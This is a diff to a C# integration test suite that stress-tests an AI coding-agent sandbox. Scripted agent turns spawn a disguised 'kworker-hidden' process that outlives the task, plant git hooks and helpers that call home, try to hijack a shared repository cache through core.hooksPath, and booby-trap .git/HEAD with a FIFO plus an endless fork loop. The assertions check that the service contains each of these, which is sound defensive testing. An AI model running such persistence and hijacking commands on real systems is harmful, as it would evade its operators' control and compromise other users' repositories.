@@ -41,15 +41,11 @@ public sealed class PersistenceAttackTests(DockerFixture fixture)
             ScriptedTurn.Bash($"setsid -f env -i PATH=/usr/bin:/bin bash -c 'exec -a kworker-hidden sleep 1000' </dev/null >/dev/null 2>&1; sleep 0.3; {HiddenCount}"),
             ScriptedTurn.Bash(PlantGitScript(home, repoA, repoC)),
             ScriptedTurn.Bash(PlantClaudeScript(home, planted)),
-            ScriptedTurn.Bash($"{CacheAttack(a)}; echo '#!/bin/sh' > .git/hooks/pre-push; git add -A && git commit -qm 'project tooling' && echo committed"),
+            ScriptedTurn.Bash($"{CacheAttack}; echo '#!/bin/sh' > .git/hooks/pre-push; git add -A && git commit -qm 'project tooling' && echo committed"),
             ScriptedTurn.Text("All set up."));
         var (task1, outcome1) = await RunAsync("dev", repoA, "issue-66", null, null, "Set up the project tooling.", cts.Token);
         var events1 = await fixture.Store.GetEventsAsync(task1.Id, 0, cts.Token);
         var endOfTask1 = fixture.Git.RequestPaths.Count;
-
-        // The planted hooks do call home while the attacking task itself runs (its own commit runs them), so
-        // silence afterwards means they did not run, not that they could not reach the server.
-        Assert.Contains(fixture.Git.RequestPaths.Take(endOfTask1), p => p.StartsWith("/pwned/hook-claude", StringComparison.Ordinal));
 
         Assert.True(outcome1.Status == TaskState.Succeeded, outcome1.Reason);
         var seen1 = ToolResults(events1);
@@ -57,6 +53,10 @@ public sealed class PersistenceAttackTests(DockerFixture fixture)
         Assert.Contains("planted-git", seen1, StringComparison.Ordinal);
         Assert.Contains("planted-claude", seen1, StringComparison.Ordinal);
         Assert.Contains("committed", seen1, StringComparison.Ordinal);
+
+        // The planted hooks do call home while the attacking task itself runs (its own commit runs them), so
+        // silence afterwards means they did not run, not that they could not reach the server.
+        Assert.True(fixture.Git.RequestPaths.Take(endOfTask1).Any(p => p.StartsWith("/pwned/hook-claude", StringComparison.Ordinal)), seen1);
         Assert.True(outcome1.KilledProcesses >= 1, $"the hidden process was not seen at the task's end ({outcome1.KilledProcesses} killed)");
         Assert.Equal(0, outcome1.LeftoverProcesses);
         Assert.Null(await fixture.Runtime.InspectAsync(SandboxName("dev", task1.Id), cts.Token));
@@ -65,7 +65,8 @@ public sealed class PersistenceAttackTests(DockerFixture fixture)
         // The cache refused every write, and the service's own push of task 1 went to its own remote only.
         var cacheWrites = ToolResultTexts(events1).Single(d => d.Contains("cache-attack", StringComparison.Ordinal));
         Assert.Equal(4, CountOf(cacheWrites, "Read-only file system"));
-        var cache = await fixture.Runtime.ExecAsync($"{fixture.Prefix}-dev", ["sh", "-c", $"git -C {a.CachePath} config --list; ls -A {a.CachePath}/hooks {a.CachePath}/objects/planted 2>&1; true"], cancellationToken: cts.Token);
+        var cachePath = CacheNames.Load(fixture.Paths).PathFor("dev", a);
+        var cache = await fixture.Runtime.ExecAsync($"{fixture.Prefix}-dev", ["sh", "-c", $"git -C {cachePath} config --list; ls -A {cachePath}/hooks {cachePath}/objects/planted 2>&1; true"], cancellationToken: cts.Token);
         Assert.DoesNotContain("hookspath", cache.Stdout, StringComparison.OrdinalIgnoreCase);
         Assert.Contains("No such file", cache.Stdout, StringComparison.Ordinal);
         var pushed = Assert.Single(outcome1.PushedCommits!);
@@ -90,7 +91,7 @@ public sealed class PersistenceAttackTests(DockerFixture fixture)
 
         // Task 3: same agent, another repository.
         fixture.Model.Enqueue(
-            ScriptedTurn.Bash($"{HiddenCount}; cat ~/.gitconfig 2>&1; echo b >> README.md && git commit -qam 'third task' && echo third-committed"),
+            ScriptedTurn.Bash($"{HiddenCount}; cat ~/.gitconfig 2>&1; echo \"visible=$(find /state -name '*.git' 2>/dev/null | wc -l)\"; ls /state/cache 2>&1; echo b >> README.md && git commit -qam 'third task' && echo third-committed"),
             ScriptedTurn.Text("Third task done."));
         var (task3, outcome3) = await RunAsync("dev", repoB, "issue-67", null, null, "Touch the readme.", cts.Token);
 
@@ -100,6 +101,10 @@ public sealed class PersistenceAttackTests(DockerFixture fixture)
         var seen3 = ToolResults(await fixture.Store.GetEventsAsync(task3.Id, 0, cts.Token));
         Assert.Contains("hidden=0", seen3, StringComparison.Ordinal);
         Assert.Contains("No such file", seen3, StringComparison.Ordinal);
+
+        // Another repository's cache (the attacked one) is out of reach: the cache folder cannot even be listed.
+        Assert.Contains("visible=0", seen3, StringComparison.Ordinal);
+        Assert.Contains("Permission denied", seen3, StringComparison.Ordinal);
 
         // A review of the branch (by the reviewer, whose own cache fetches it): guided by the base branch's
         // CLAUDE.md, never by the one the branch brings.
@@ -159,13 +164,47 @@ public sealed class PersistenceAttackTests(DockerFixture fixture)
         Assert.Equal("left done", results[0].Outcome.FinalText);
     }
 
+    [SkippableFact]
+    public async Task TaskThatBooby_TrapsItsCheckout_CannotHoldTheServiceUp()
+    {
+        Skip.If(fixture.SkipReason is not null, fixture.SkipReason);
+        using var cts = new CancellationTokenSource(Timeout);
+        fixture.Git.RequiredToken = null;
+        var id = Guid.NewGuid().ToString("N")[..8];
+        var repo = await fixture.Git.CreateRepositoryAsync("it-owner", $"trap-{id}", new Dictionary<string, string> { ["README.md"] = "# trap\n" });
+
+        // A commit to push, then a HEAD that blocks whoever opens it, and a process that keeps forking.
+        fixture.Model.EnqueueFor($"trap-{id}",
+            ScriptedTurn.Bash("echo t >> README.md && git commit -qam trapped && rm .git/HEAD && mkfifo .git/HEAD && (setsid -f sh -c 'while :; do sleep 0.1 & wait; done' </dev/null >/dev/null 2>&1) && echo armed"),
+            ScriptedTurn.Text("Armed."));
+        var now = DateTimeOffset.UtcNow;
+        var task = new TaskRecord(TaskIds.New(), "dev", repo, null, "issue-96", $"trap-{id}: arm it.", TaskState.Queued, 1, now, now, null);
+        await fixture.Store.CreateTaskAsync(task, "submitted by a test", cts.Token);
+        await fixture.Store.TransitionAsync(task.Id, TaskState.Queued, TaskState.Running, "claimed by a test", null, cts.Token);
+        var runner = new AgentRunner(fixture.Runtime, fixture.Sandboxes, fixture.Config, fixture.Paths, fixture.Store, new TaskEventBus(fixture.Store), Microsoft.Extensions.Logging.Abstractions.NullLogger<AgentRunner>.Instance)
+        {
+            StopGrace = TimeSpan.FromSeconds(1),
+            FinishLimit = TimeSpan.FromSeconds(5),
+        };
+        var clock = System.Diagnostics.Stopwatch.StartNew();
+
+        var outcome = await runner.RunAsync(task with { State = TaskState.Running }, cts.Token);
+
+        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(60), $"the task took {clock.Elapsed}");
+        Assert.NotEqual(TaskState.Succeeded, outcome.Status);
+        Assert.Contains("took longer than 5s", outcome.Reason, StringComparison.Ordinal);
+        Assert.True(outcome.KilledProcesses >= 1, $"{outcome.KilledProcesses} killed");
+        Assert.Equal(0, outcome.LeftoverProcesses);
+        Assert.Null(await fixture.Runtime.InspectAsync(SandboxName("dev", task.Id), cts.Token));
+    }
+
     /// <summary>How many processes run as kworker-hidden (not merely mentioning it; the bracket keeps grep from counting itself).</summary>
     private const string HiddenCount = "echo \"hidden=$(ps -eo args | grep -c '^[k]worker-hidden')\"";
 
     private static string PlantGitScript(string home, string repoA, string repoC) => $$"""
         mkdir -p ~/planted ~/.config/git
         for what in hook fsmonitor ssh helper; do
-          printf '#!/bin/sh\ngit ls-remote "{{home}}/%s-$(id -un).git" >/dev/null 2>&1\nexit 0\n' "$what" > ~/planted/$what
+          printf '#!/bin/sh\n[ -n "$CALLED_HOME" ] || CALLED_HOME=1 git ls-remote "{{home}}/%s-$(id -un).git" >/dev/null 2>&1 </dev/null\nexit 0\n' "$what" > ~/planted/$what
           chmod +x ~/planted/$what
         done
         for hook in pre-push post-checkout pre-commit reference-transaction; do ln -sf ~/planted/hook ~/planted/$hook; done
@@ -212,10 +251,10 @@ public sealed class PersistenceAttackTests(DockerFixture fixture)
             """;
     }
 
-    private static string CacheAttack(RepositoryUrl repository) =>
-        $"echo cache-attack; git -C {repository.CachePath} config core.hooksPath /home/claude/planted 2>&1; " +
-        $"echo x > {repository.CachePath}/hooks-planted 2>&1; touch {repository.CachePath}/objects/planted 2>&1; " +
-        $"echo 0000 > {repository.CachePath}/refs/heads/main 2>&1";
+    /// <summary>The agent finds its own cache through its checkout's alternates and tries to change it.</summary>
+    private const string CacheAttack =
+        "echo cache-attack; c=$(dirname \"$(cat .git/objects/info/alternates)\"); git -C \"$c\" config core.hooksPath /home/claude/planted 2>&1; " +
+        "echo x > \"$c/hooks-planted\" 2>&1; touch \"$c/objects/planted\" 2>&1; echo 0000 > \"$c/refs/heads/main\" 2>&1";
 
     private async Task<(TaskRecord Task, RunOutcome Outcome)> RunAsync(string agent, string repo, string thread, string? baseRef, string? guidance, string prompt, CancellationToken cancellationToken)
     {
